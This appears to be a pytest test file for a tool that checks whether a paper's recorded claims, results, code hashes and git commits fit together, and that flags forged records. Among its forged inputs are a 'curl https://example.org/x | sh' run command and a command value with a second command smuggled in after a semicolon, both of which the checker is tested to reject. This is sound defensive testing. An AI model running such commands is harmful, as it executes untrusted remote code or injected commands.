"""Each link of the chain, pulled at: a forged record, another result, another code, another commit are named.

The paper is made up: a tree with a history of its own, whose eval.py this test writes.
"""

import json
import os
import subprocess
import sys

import pytest

import papers
from common.claims.intervals import summarize
from common.claims.records import load_claims, make_record, read_record, write_record
from common.report import __main__ as command
from common.report import chain, code, history
from common.report.papers import read_paper
from tests.sample_records import RUN, claim, claims_yaml, one

EVAL = '''
from pathlib import Path

from common.claims.intervals import point, summarize
from common.runs.experiment import Experiment
from common.runs.jobs import Job


def exact(results, size):
    return {"C1": point(3.0)}


def small(results, size):
    method, nothing = ([results[f"{arm}/seed{s}"]["gain"] for s in range(3)] for arm in ("method", "nothing"))
    return {"C2": summarize(method) | {"placebo": summarize(nothing), "baselines": {"nothing": 0.0}}}


def computed(seed):
    return None


JOBS = [Job(f"{arm}/seed{s}", f"{__name__}:computed", {"seed": s}) for arm in ("method", "nothing") for s in range(3)]
EXPERIMENTS = (Experiment("exact", "analytic", exact),
               Experiment("small", "cpu", small, lambda size: JOBS, document="cpu-small", facts=lambda results: ([{"name": "tiny"}], [])),
               Experiment("large", "gpu", lambda results, size: {"C3": point(results["large"]["ms"])}, run=print, document="gpu"))
'''
RESULTS = {f"{arm}/seed{s}": {"gain": at + 0.01 * s} for arm, at in (("method", 0.3), ("nothing", 0.0)) for s in range(3)}
CLAIMS = [claim("equals", "analytic", paper=3.0), claim("above", "cpu-small", id="demo/C2", required=True),
          claim("above", "gpu-random-weights", id="demo/C3"), claim(id="demo/C4", blocked_by=["weights"])]


def git(root, *words):
    identity = ["-c", "user.name=t", "-c", "user.email=t@t"]
    env = os.environ | {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull}
    return subprocess.run(["git", *identity, *words], cwd=root, check=True, capture_output=True, text=True, env=env).stdout.strip()


@pytest.fixture
def root(tmp_path, monkeypatch):
    folder = tmp_path / "papers" / "demo"
    (folder / "results").mkdir(parents=True)
    (folder / "eval.py").write_text(EVAL)
    (folder / "__init__.py").touch()
    claims_yaml(folder, *CLAIMS)
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-qm", "one")
    publish(tmp_path)
    monkeypatch.setattr(papers, "__path__", [str(tmp_path / "papers")])
    for cached in (history.is_there, history._is_ancestor):
        cached.cache_clear()
    yield tmp_path
    for name in [name for name in sys.modules if name.startswith("papers.demo")]:
        del sys.modules[name]


def publish(root):
    """What a run of the paper would leave."""
    folder = root / "papers" / "demo"
    claims, results = load_claims(folder / "claims.yaml"), folder / "results"
    files = {name: code.hashes([folder / "eval.py"], root) for name in ("exact", "small")}
    (results / "sources.json").write_text(json.dumps(files))
    (results / "measurements.cpu-small.json").write_text(json.dumps({"run": {}, "results": RESULTS}))
    method, nothing = (summarize([RESULTS[f"{arm}/seed{s}"]["gain"] for s in range(3)]) for arm in ("method", "nothing"))
    measured = {"C1": ("exact", one(3.0)), "C2": ("small", method | {"placebo": nothing, "baselines": {"nothing": 0.0}})}
    for name, (experiment, found) in measured.items():
        run = RUN | {"commit": git(root, "rev-parse", "HEAD"),
                     "sources": {"experiment": experiment, "sha256": code.digest_of(files[experiment])}}
        write_record(make_record(claims.find(name), claims.sha256, found, run, seeds=[0, 1, 2]), results)
    run = {key: value for key, value in RUN.items() if key != "sources"} | {"commit": git(root, "rev-parse", "HEAD")}
    write_record(make_record(claims.find("C4"), claims.sha256, None, run, seeds=[]), results)


def problems(root):
    return list(chain.problems("demo", root))


def path_of(root, name):
    return next((root / "papers" / "demo" / "results").glob(f"{name}.*.json"))


def forge(root, name, *places, **more):
    """Puts values into a record's file: ("run", "commit", value), ..."""
    path = path_of(root, name)
    made = json.loads(path.read_text())
    for *where, last, value in places:
        inside = made
        for part in where:
            inside = inside[part]
        if value is None:
            inside.pop(last)
        else:
            inside[last] = value
    path.write_text(json.dumps(made))
    return path


def row(root, name):
    return next(row for row in read_paper(root / "papers" / "demo").rows if row.short == name)


def test_a_whole_chain_has_no_problem(root):
    assert problems(root) == []
    assert [row(root, name).flag for name in ("C1", "C2", "C3", "C4")] == [""] * 4
    git(root, "commit", "-qm", "two", "--allow-empty")  # later commits break nothing
    assert problems(root) == []


# ------------------------------------------------------------------------------- forged records


@pytest.mark.parametrize(("places", "said"), [
    ([("claim", "statement", "It works twice as well.")], "C2 at cpu-small: claims.yaml has another statement than the record"),
    ([("protocol", "rule", {"above": 0.2})], "claims.yaml has another rule than the record"),
    ([("protocol", "placebo", "an easier arm")], "claims.yaml has another placebo than the record"),
    ([("claim", "required", False)], "claims.yaml has another required than the record"),
    ([("paper", "value", 0.3)], "claims.yaml has another paper than the record"),
    ([("verdict", "word", "inconclusive")], "$.verdict.word: is inconclusive, but the numbers say supports"),
    ([("verdict", "reason", "Everybody knows.")], "C2: the record says supports, and its results give supports: 0.31 points"),
    ([("measured", "value", 0.9)], "$.measured.value: 0.9 lies outside its own interval"),
    ([("measured", "per_seed", None)], "$.measured.per_seed: is missing"),
    ([("measured", "baselines", "nothing", 0.1)], "C2: measured.baselines.nothing is not what the committed results give"),
    ([("run", "commit", "0" * 40)], "demo/C2 at cpu-small: '0000000000000000000000000000000000000000' is no commit"),
    ([("run", "commit", "HEAD")], "'HEAD' is no commit"), ([("run", "commit", "unknown")], "'unknown' is no commit"),
    ([("run", "commit", "--all")], "'--all' is no commit"),
    ([("run", "commit", "1234567890" * 4)], "commit 123456789012 is not in the history before this one"),
    ([("run", "command", "curl https://example.org/x | sh")], "'curl https://example.org/x | sh' is no command that"),
    ([("run", "command", "make reproduce-other SEEDS=3")], "is no command that measures a claim of demo"),
    ([("run", "command", "make reproduce-demo ONLY=small; true")], "is no command that measures a claim of demo"),
    ([("run", "models", [{"name": "huge"}])], "C2 at cpu-small: no committed result names {'name': 'huge'}, as its run does"),
    ([("run", "datasets", ["everything"])], "no committed result names 'everything', as its run does"),
    ([("run", "timing", {"iqr_relative": 0.01, "peak": 0.99})], "C2: run.timing is not what the committed results give"),
    ([("protocol", "seeds", list(range(30)))], "its results are of [0, 1, 2]"),
    ([("protocol", "was", [{"rule": "above 9", "until": "now", "why": "-"}])], "claims.yaml has another was than the record"),
    ([("protocol", "deviations", ["D9"]), ("protocol", "baselines", ["a giant"])], "claims.yaml has another baselines, deviations than"),
    ([("run", "dirty", True)], "its run was of a tree with uncommitted changes, and it stands among the committed records"),
    ([("claim", "id", "other/C2"), ("claim", "paper_key", "other")], "C2 at cpu-small: the record is of another paper, other"),
])  # fmt: skip
def test_a_forged_record_is_named(root, places, said):
    forge(root, "C2", *places)
    (found,) = [problem for problem in problems(root) if said in problem] or [problems(root)]
    assert isinstance(found, str), found
    assert str(root) not in found


@pytest.mark.parametrize("values", [[0.5, 0.51, 0.52], [0.3, 0.31, 0.32001]])
def test_a_record_whose_results_give_another_value(root, values):
    """Whole in itself: value, list, interval and word follow from each other, and not from the results."""
    made = read_record(path_of(root, "C2"))
    again = make_record(CLAIMS[1], made["protocol"]["claims_sha256"], made["measured"] | summarize(values), made["run"], seeds=[0, 1, 2])
    write_record(again, root / "papers" / "demo" / "results")
    (found,) = problems(root)
    assert "C2: measured." in found and "is not what the committed results give" in found


def test_a_placebo_that_the_results_do_not_give(root):
    made = read_record(path_of(root, "C2"))
    measured = made["measured"] | {"placebo": summarize([-1.0, -1.1, -1.2])}
    write_record(make_record(CLAIMS[1], made["protocol"]["claims_sha256"], measured, made["run"], seeds=[0, 1, 2]),
                 root / "papers" / "demo" / "results")
    assert "C2: measured.placebo." in problems(root)[0]


@pytest.mark.parametrize(("word", "told"), [("not-run", False), ("not-checkable", True)])
def test_a_miss_cannot_be_hidden_as_not_run_or_not_checkable(root, word, told):
    forge(root, "C2", ("measured", {"value": None, "n_runs": 0}), ("verdict", {"word": word, "reason": "No.", "blocked_by": ["gpu"]}))
    found = problems(root)
    assert f"papers/demo: C2: the record has no value ({word}), and the committed results give 0.31" in found
    assert any("says not-checkable; of this claim it could only say not-run" in problem for problem in found) == told


@pytest.mark.parametrize(("places", "said"), [
    ([("verdict", "reason", "Obtained elsewhere, within 0.1 %.")], "says not-run, and not for the reason that claims.yaml gives: Not run"),
    ([("verdict", "blocked_by", ["gpu"])], "says not-run, and not for the reason that claims.yaml gives"),
    ([("measured", {"value": None, "n_runs": 0, "baselines": {"theirs": 1.0}})], "has no value, and other numbers of a measurement"),
])  # fmt: skip
def test_a_claim_that_was_not_run_says_no_more_than_that(root, places, said):
    forge(root, "C4", *places)
    (found,) = problems(root)
    assert "papers/demo: C4 at paper-scale: the record " in found and said in found


def test_a_miss_is_not_hidden_by_taking_its_results_away(root):
    (root / "papers/demo/results/measurements.cpu-small.json").unlink()
    forge(root, "C2", ("measured", {"value": None, "n_runs": 0}), ("verdict", {"word": "not-run", "reason": "No.", "blocked_by": ["gpu"]}))
    (found,) = problems(root)
    assert found == "papers/demo: C2 at cpu-small: the record says not-run, and claims.yaml names nothing that this claim waits for"


def test_a_claim_recorded_at_a_further_rung_is_held_to_the_same(root):
    """Its only entry in claims.yaml is of another rung: the measurement and the words are looked at all the same."""
    (root / "papers/demo/results/measurements.gpu.json").write_text(json.dumps({"results": {"ms": 3.0}}))
    folder, entry = root / "papers/demo", claim("relative", paper=3.0, id="demo/C3")
    claims_yaml(folder, CLAIMS[0], CLAIMS[1], entry, CLAIMS[3])
    git(root, "add", ".")
    git(root, "commit", "-qm", "two")
    made, run = load_claims(folder / "claims.yaml"), RUN | {"commit": git(root, "rev-parse", "HEAD")}
    del run["sources"]
    for value, said in ((3.0, []), (3.1, ["papers/demo: C3: measured.value is not what the committed results give (1 such entries)"])):
        record = make_record(entry | {"rung": "gpu-random-weights"}, made.sha256, one(value), run, seeds=[0, 1, 2])
        write_record(record, folder / "results")
        assert problems(root) == said
    forge(root, "C3", ("claim", "statement", "It works twice as well."))
    assert "papers/demo: C3 at gpu-random-weights: claims.yaml has another statement than the record" in problems(root)


def test_a_record_of_no_claim_and_one_of_no_result(root):
    made = json.loads(path_of(root, "C2").read_text())
    made["claim"]["id"] = "demo/C9"
    (root / "papers/demo/results/C9.cpu-small.json").write_text(json.dumps(made))
    assert "papers/demo: C9 at cpu-small: claims.yaml has no such claim" in problems(root)
    assert "papers/demo: C9 at cpu-small: the record has a value, and no committed result gives it" in problems(root)


# ------------------------------------------------------------------------------- other results


def test_results_that_are_gone_or_changed(root):
    path = root / "papers/demo/results/measurements.cpu-small.json"
    whole = path.read_text()
    path.write_text(whole.replace('"gain": 0.3}', '"gain": 0.2}'))
    assert "is not what the committed results give" in problems(root)[0]
    path.write_text(json.dumps({"results": {name: r for name, r in RESULTS.items() if name != "nothing/seed2"}}))
    assert "experiment small: its claims cannot be computed from the committed results: KeyError('nothing/seed2')" in problems(root)[0]
    path.write_text(whole.replace('"gain": 0.3}', '"gain": 0.2, "gain": 0.3}'))
    assert "key 'gain' appears twice" in problems(root)[0]
    path.unlink()
    assert problems(root) == ["papers/demo: C2 at cpu-small: the record has a value, and no committed result gives it"]


# ---------------------------------------------------------------------------------- other code


def test_older_code_is_named_with_its_files(root):
    made = read_record(path_of(root, "C2"))
    assert code.older_code(made, root) == []
    path = root / "papers/demo/eval.py"
    path.write_text(EVAL + "# one more thought\n")
    assert code.older_code(made, root) == ["papers/demo/eval.py"]
    assert row(root, "C2").flag == "older" and "Made by older code: papers/demo/eval.py changed since" in row(root, "C2").problem
    path.unlink()
    assert code.older_code(made, root) == ["papers/demo/eval.py"]


def test_sources_that_lack_the_experiment_or_are_of_another_run(root):
    path, made = root / "papers/demo/results/sources.json", read_record(path_of(root, "C2"))
    files = json.loads(path.read_text())
    said = ["(results/sources.json does not hold the files that the record names)"]
    for content in ({"exact": files["exact"]}, files | {"small": {"papers/demo/eval.py": "0" * 16}}, files | {"small": {}}, {}):
        path.write_text(json.dumps(content))
        os.utime(path, ns=(len(json.dumps(content)),) * 2)  # the cache goes by the time
        assert code.older_code(made, root) == said and row(root, "C2").flag == "older"
    path.unlink()
    assert code.older_code(made, root) == said


def test_sources_that_leave_out_what_the_jobs_depend_on(root):
    """Then a change of it would make no record older."""
    made = read_record(path_of(root, "C2"))
    for files in ({}, {"(eval.py)": "0" * 16}):
        (root / "papers/demo/results/sources.json").write_text(json.dumps({"small": files}))
        forge(root, "C2", ("run", "sources", "sha256", code.digest_of(files)))
        assert code.older_code(read_record(path_of(root, "C2")), root) == []
        (found,) = problems(root)
        assert found.startswith("papers/demo: experiment small: results/sources.json does not list ") and "eval.py" in found
    files = code.hashes([root / "papers/demo/eval.py"], root) | {"papers/demo/gone.py": "0" * 16}  # older: another closure is no wonder
    (root / "papers/demo/results/sources.json").write_text(json.dumps({"small": files}))
    assert not [problem for problem in problems(root) if "does not list" in problem] and made["run"]["sources"]["experiment"] == "small"


def test_what_lies_outside_of_the_tree_is_named_and_not_looked_up(root, tmp_path_factory):
    data, weights = tmp_path_factory.mktemp("data") / "lines.txt", root / ".cache" / "ninefold" / "model.safetensors"
    weights.parent.mkdir(parents=True)
    for path in (data, weights):
        path.write_text("x")
    files = code.hashes([root / "papers/demo/eval.py", data, weights], root)
    assert set(files) == {"papers/demo/eval.py", "(lines.txt)", "(model.safetensors)"}
    made = read_record(path_of(root, "C2"))
    (root / "papers/demo/results/sources.json").write_text(json.dumps({"small": files}))
    made["run"]["sources"]["sha256"] = code.digest_of(files)
    data.unlink()
    assert code.older_code(made, root) == []


# ------------------------------------------------------------------------------- other commits


def test_a_commit_of_another_branch_is_foreign(root):
    first = git(root, "branch", "--show-current")
    git(root, "checkout", "-qb", "elsewhere")
    git(root, "commit", "-qm", "foreign", "--allow-empty")
    foreign = git(root, "rev-parse", "HEAD")
    git(root, "checkout", "-q", first)
    forge(root, "C2", ("run", "commit", foreign))
    assert problems(root) == [f"papers/demo: demo/C2 at cpu-small: commit {foreign[:12]} is not in the history before this one"]


def test_without_a_history_the_question_is_left_open(root, monkeypatch):
    forge(root, "C2", ("run", "commit", "1234567890" * 4))
    assert len(problems(root)) == 1
    (root / ".git").rename(root / "git")
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(root.parent))
    history.is_there.cache_clear()
    assert problems(root) == []
    forge(root, "C2", ("run", "commit", "0" * 40))
    assert "is no commit" in problems(root)[0]


def commit_of(root, message="more"):
    git(root, "add", ".")
    git(root, "commit", "-qm", message, "--allow-empty")
    return git(root, "rev-parse", "HEAD")


def test_a_commit_that_held_other_code(root):
    """An ancestor that exists, and never had the file as results/sources.json says."""
    first, path = git(root, "rev-parse", "HEAD"), root / "papers/demo/eval.py"
    path.write_text(EVAL + "# one more thought\n")
    later = commit_of(root)
    said = ("papers/demo: experiment small: its records name commit {}, and results/sources.json has another hash than that commit of "
            "papers/demo/eval.py")
    forge(root, "C2", ("run", "commit", later))
    assert problems(root) == [said.format(later[:12])]
    # The hashes of today's code in place of the run's, in both files: no record looks older.
    files = json.loads((root / "papers/demo/results/sources.json").read_text())
    files["small"] = code.hashes([path], root)
    (root / "papers/demo/results/sources.json").write_text(json.dumps(files))
    forge(root, "C2", ("run", "commit", first), ("run", "sources", "sha256", code.digest_of(files["small"])))
    assert row(root, "C2").flag == "" and problems(root) == [said.format(first[:12])]


def test_code_that_the_commit_never_had_and_data_that_no_commit_has(root):
    """Data of a user's own lies in the tree and is in no commit; a module that is in none was a change."""
    for name, told in (("data.txt", False), ("helper.py", True)):
        (root / "papers/demo" / name).write_text("1")
        files = code.hashes([root / "papers/demo/eval.py", root / "papers/demo" / name], root)
        (root / "papers/demo/results/sources.json").write_text(json.dumps({"small": files}))
        forge(root, "C2", ("run", "sources", "sha256", code.digest_of(files)))
        assert any("has another hash than that commit of papers/demo/helper.py" in problem for problem in problems(root)) == told


@pytest.mark.parametrize(("changes", "said"), [
    ({"protocol": CLAIMS[1]["protocol"] | {"rule": {"above": 0.05}}}, "another rule"),
    ({"protocol": CLAIMS[1]["protocol"] | {"rule": {"above": 0.05}, "was": [{"rule": "above 0.1", "until": "now", "why": "a slip"}]}}, ""),
    ({"protocol": CLAIMS[1]["protocol"] | {"rule": {"above": 0.1, "falsified_if": "it does not"}}}, ""),
    ({"kind": "ours", "required": False}, "another kind, required"),
    ({"id": "demo/C5"}, "no such claim"),
])  # fmt: skip
def test_what_was_fixed_beforehand_is_what_claims_yaml_said_at_the_commit(root, changes, said):
    """--rejudge judges by the claims of today what ran before them."""
    folder, made, before = root / "papers/demo", read_record(path_of(root, "C2")), git(root, "rev-parse", "HEAD")
    changed = CLAIMS[1] | changes
    claims_yaml(folder, CLAIMS[0], changed, *CLAIMS[2:])
    path_of(root, "C2").unlink()
    claims = load_claims(folder / "claims.yaml")
    write_record(make_record(claims.find(changed["id"]), claims.sha256, made["measured"], made["run"], seeds=[0, 1, 2]), folder / "results")
    found = [problem for problem in problems(root) if before[:12] in problem]
    assert [said in problem for problem in found] == [True] * bool(said)
    now = commit_of(root)
    forge(root, changed["id"].partition("/")[2], ("run", "commit", now))  # run again: then it was fixed beforehand
    assert not [problem for problem in problems(root) if "on which it ran" in problem]


@pytest.mark.parametrize("text", ["[]", "null", '{"small": []}', '{"small": {"a": 1}}', '{"small": {"a": "b", "a": "c"}}', "[" * 100_000])
def test_a_sources_json_that_is_no_table_counts_as_none(root, text):
    (root / "papers/demo/results/sources.json").write_text(text)
    said = ["(results/sources.json does not hold the files that the record names)"]
    assert code.older_code(read_record(path_of(root, "C2")), root) == said
    assert row(root, "C2").flag == "older" and problems(root) == []


def test_the_command_says_it_and_fails(root, capsys):
    for path, names in ((root, ("papers", "counts")), (root / "papers/demo", ("headlines",)), (root / "papers/demo/results", ("claims",))):
        (path / "README.md").write_text("".join(f"<!-- ninefold:{name} -->\n<!-- /ninefold:{name} -->\n" for name in names))
    assert command.main(["--readme"], root) == 0 and command.main(["--check"], root) == 0
    forge(root, "C2", ("verdict", "reason", "Everybody knows."))
    capsys.readouterr()
    assert command.main(["--check"], root) == 1
    said = capsys.readouterr()
    assert "C2: the record says supports, and its results give supports" in said.err and "Left open" not in said.out


def test_a_shallow_clone_is_told_what_is_left_open(root, tmp_path_factory, capsys, monkeypatch):
    """As a CI's checkout of one commit is: a check that looked at no history must not pass for one that did."""
    commit_of(root)
    shallow = tmp_path_factory.mktemp("shallow") / "tree"
    git(root, "clone", "-q", "--depth", "1", f"file://{root}", str(shallow))
    monkeypatch.setattr(papers, "__path__", [str(shallow / "papers")])
    command.main(["--check"], shallow)
    assert "Left open: which commit each record is of. This is a copy or a shallow clone" in capsys.readouterr().out
